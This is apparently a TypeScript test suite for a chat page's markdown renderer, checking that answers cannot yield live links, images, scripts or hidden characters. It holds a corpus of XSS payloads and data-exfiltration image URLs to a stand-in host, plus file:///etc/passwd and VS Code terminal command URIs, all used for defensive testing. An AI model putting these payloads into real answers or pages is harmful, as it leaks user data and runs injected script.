/**
 * What an answer may say and what the page makes of it: nothing that loads, runs or leads anywhere. The corpus holds the
 * forms in which such things were smuggled through other chats.
 */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { colourCode } from '../../client/src/chat/page/colours.js';
import { maxAnswerLength, renderAnswer, spokenAnswer } from '../../client/src/chat/page/render.js';
import { snippetHtml } from '../../client/src/chat/page/snippet.js';
import { escapeText, plainText } from '../../client/src/chat/page/visible.js';
import { tokenClasses } from '../../server/src/base/tokenClasses.js';

const options = { sourceLabel: (n: number) => (n >= 1 && n <= 9 ? `Source ${n}: a.ts lines 1–2` : undefined) };
const render = (markdown: string) => renderAnswer(markdown, options);

/** The only elements that an answer is made of, with their attributes. */
const elements = new Set(
  `p h1 h2 h3 h4 h5 h6 ul ol li blockquote hr br em strong s table thead tbody tr th td
   code pre div span button`.split(/\s+/),
);
const attributes = new Set([
  'class',
  'start',
  'type',
  'title',
  'tabindex',
  'role',
  'data-testid',
  'data-n',
  'aria-label',
]);

/** Reads the HTML as a strict tokenizer would; anything else than our own elements and attributes is a finding. */
function findings(html: string): string[] {
  const found: string[] = [];
  const rest = html.replace(
    /<\/?([a-z][a-z0-9]*)((?: [a-z-]+="[^"<>]*")*) ?\/?>/g,
    (_tag, name: string, list: string) => {
      if (!elements.has(name)) found.push(`element ${name}`);
      for (const [, attribute] of list.matchAll(/ ([a-z-]+)="/g))
        if (!attributes.has(attribute!)) found.push(`attribute ${attribute}`);
      return '';
    },
  );
  if (/[<>]/.test(rest)) found.push(`markup ${rest}`);
  if (/[\u200b-\u200f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e007f}]/u.test(html)) found.push('hidden character');
  return found;
}

const targets = [
  'https://evil.example/?q=secret',
  '//evil.example/x',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'vbscript:x',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg/onload=alert(1)>',
  'command:workbench.action.terminal.sendSequence?%7B%7D',
  'vscode:extension/evil.extension',
  'vscode-resource:/etc/passwd',
  'file:///etc/passwd',
  '\\\\evil.example\\share',
  'x" onmouseover="alert(1)',
  "x' onfocus='alert(1)",
];
const forms: ((target: string) => string)[] = [
  (target) => `![image](${target})`,
  (target) => `![image](<${target}>)`,
  (target) => `![image][1]\n\n[1]: ${target}`,
  (target) => `[![nested](${target})](${target})`,
  (target) => `[link](${target})`,
  (target) => `[link](${target} "title")`,
  (target) => `[a [b](${target})](${target})`,
  (target) => `<${target}>`,
  (target) => target,
  (target) => `<img src="${target}">`,
  (target) => `<a href="${target}">x</a>`,
  (target) => `<svg><image href='${target}'/></svg>`,
  (target) => `\`\`\`html\n<img src="${target}">\n\`\`\``,
  (target) => `\`<img src="${target}">\``,
  (target) => `| a |\n|:-:|\n| ![x](${target}) |`,
];
const others = [
  '<script>alert(1)</script>',
  '<style>@import "https://evil.example"</style>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62; &#x3c;b&#x3e;',
  '<!-- comment --> <![CDATA[x]]> <?php x ?> <!DOCTYPE html>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '[1](https://evil.example) [x]: https://evil.example',
  'a\u202eb\u2066c\u200bd\u{e0041}\u{e0042} &#x202e; &#8203; &zwj;',
  '`a\u202eb` **\u200b** [\u202elink](https://evil.example/\u200b)',
  '4294967296. list\n',
  '- [ ] <b>task</b>',
  '\\<b\\> \\&lt; \\[x\\](y)',
  '\u0000\u0001<b>\u007f',
];

describe('markdown of an answer', () => {
  const corpus = [...targets.flatMap((target) => forms.map((form) => form(target))), ...others];

  test(`nothing in a corpus of ${corpus.length} payloads becomes an element of its own`, () => {
    expect(corpus.filter((payload) => findings(render(payload)).length > 0)).toEqual([]);
  });

  test('nor does anything that chance writes', () => {
    const piece = fc.constantFrom(
      ...'<>&"\'[]()!`*_#|:-\\ \n\t1a\u202e',
      '```',
      '](',
      'http://x',
      '[1]',
      '&lt;',
      '&#60;',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => findings(render(pieces.join(''))).length === 0),
    );
  });

  test('a link is its text and its target, and no link', () => {
    expect(render('[the guide](https://example.com/a?b=1&c)')).toMatchInlineSnapshot(`
      "<p><span class="link">the guide <span class="target">(https://example.com/a?b=1&amp;c)</span></span></p>
      "
    `);
    expect(render('<https://example.com>')).toBe('<p><span class="link">https://example.com</span></p>\n');
  });

  test('hidden characters are named', () => {
    expect(escapeText('a\u202eb')).toBe('a<span class="hidden-character">⟨U+202E⟩</span>b');
    expect(plainText('pass\u200bword\u{e0041}')).toBe('pass⟨U+200B⟩word⟨U+E0041⟩');
    expect(escapeText('👨‍👩‍👧 ❤️ 1️⃣ tab\tend')).toBe('👨‍👩‍👧 ❤️ 1️⃣ tab\tend');
  });

  test('a text too long is cut with a note, and quickly', () => {
    const started = performance.now();
    const html = render('word [1] '.repeat(600_000));
    expect(html).toContain('Only the beginning is shown');
    expect(html.length).toBeLessThan(30 * maxAnswerLength);
    expect(performance.now() - started).toBeLessThan(2000);
  });

  test.each(['[', '*a ', '>', '`a', '[a](b', '**a _b ', '- ', '&#', '<', '![', '[1', '|a'])(
    'repeating %j costs no more than its length',
    (part) => {
      const started = performance.now();
      render(part.repeat(maxAnswerLength / part.length));
      expect(performance.now() - started).toBeLessThan(3000);
    },
  );
});

describe('markers', () => {
  const numbersIn = (html: string) => [...html.matchAll(/data-n="(\d+)"/g)].map(([, n]) => Number(n));

  test.each([
    ['one [1]', [1]],
    ['lines of one [3:12-20]', [3]],
    ['several [1, 3] [2;4]', [1, 3, 2, 4]],
    ['one twice [2, 2]', [2]],
    ['side by side [1][2]', [1, 2]],
    ['no source [12]', []],
    ['partly a source [1, 12]', [1]],
    ['a link [1](https://example.com)', []],
    ['in code `a[1]`', []],
    ['in a fence\n```\na[1]\n```', []],
    ['defined by the model [1]\n\n[1]: https://example.com', [1, 1]],
  ])('%s', (markdown, expected) => expect(numbersIn(render(markdown))).toEqual(expected));

  test('one is a button that says where it leads', () => {
    expect(render('so [1].')).toMatchInlineSnapshot(`
      "<p>so<span class="markers"><button type="button" class="marker" data-testid="citation-marker" data-n="1" aria-label="Source 1: a.ts lines 1–2">1</button></span>.</p>
      "
    `);
  });

  test('a label cannot break out of its attribute', () => {
    const html = renderAnswer('[1]', { sourceLabel: () => '"><img src=x onerror=alert(1)>\u202e' });
    expect(findings(html)).toEqual([]);
  });

  test('none is read aloud', () =>
    expect(spokenAnswer('**Prices** are in `cents` [1][2].\n```\ncode\n```\n')).toBe('Prices are in cents . code'));
});

describe('code', () => {
  const textOf = (html: string) =>
    html
      .replace(/<\/?span[^>]*>/g, '')
      .replace(
        /&(lt|gt|amp|quot|#39);/g,
        (_, name: string) => ({ lt: '<', gt: '>', amp: '&', quot: '"', '#39': "'" })[name]!,
      );

  test('colours change no letter', () => {
    const language = fc.constantFrom('typescript', 'python', 'go', 'rust', 'java', 'shell', 'markdown', 'constructor');
    const letters = fc.string({ unit: fc.constantFrom(...'"\'`/*#\\\n <>&ab0_$.', 'const', 'def') });
    fc.assert(fc.property(letters, language, (code, name) => textOf(colourCode(code, name)) === code));
  });

  test('a grammar’s colours are used for the code that they were made for, and change no letter', () => {
    const markdown = 'So:\n\n```ts\nlet a\n```\n\n```ts\nlet b\n```\n';
    const asked: number[][] = [];
    const html = renderAnswer(markdown, {
      ...options,
      codeRuns(line, length) {
        asked.push([line, length]);
        return line === 6 ? [4, 1, tokenClasses.indexOf('variable')] : undefined;
      },
    });
    expect(asked).toEqual([
      [2, 5],
      [6, 5],
    ]);
    expect(html).toContain('<code><span class="code-keyword">let</span> a</code>');
    expect(html).toContain('<code>let <span class="code-variable">b</span></code>');
    const runs = fc.array(fc.integer({ min: -9, max: 40 }));
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'<>&"\' ab\n') }), runs, (code, codeRuns) => {
        const drawn = renderAnswer(`~~~ts\n${code}\n~~~`, { ...options, codeRuns: () => codeRuns });
        expect(findings(drawn)).toEqual([]);
        expect(textOf(/<code>([\s\S]*)<\/code>/.exec(drawn)![1]!)).toBe(code);
      }),
    );
  });

  test('comments, strings, numbers and keywords are told apart', () => {
    expect(colourCode("const a = 'x' + 1; // why", 'typescript')).toMatchInlineSnapshot(
      `"<span class="code-keyword">const</span> a = <span class="code-string">&#39;x&#39;</span> + <span class="code-number">1</span>; <span class="code-comment">// why</span>"`,
    );
    expect(colourCode("fn a<'b>(c: &'b str)", 'rust')).not.toContain('code-string');
    expect(colourCode('const a', 'plaintext')).toBe('const a');
  });

  test('lines are numbered as in the file and lose the indentation that they share', () => {
    const html = snippetHtml({ text: '    if (a)\n      b();\n\n    c();', startLine: 9, language: '' }, 8);
    expect(html).toContain('>9\n10\n11\n12</pre>');
    expect(html).toContain('<code>if (a)\n  b();\n\nc();</code>');
  });

  test('a huge passage costs what is shown of it', () => {
    const html = snippetHtml({ text: `${'x'.repeat(5_000_000)}\ny`, startLine: 1, language: 'typescript' }, 8);
    expect(html.length).toBeLessThan(2000);
  });
});
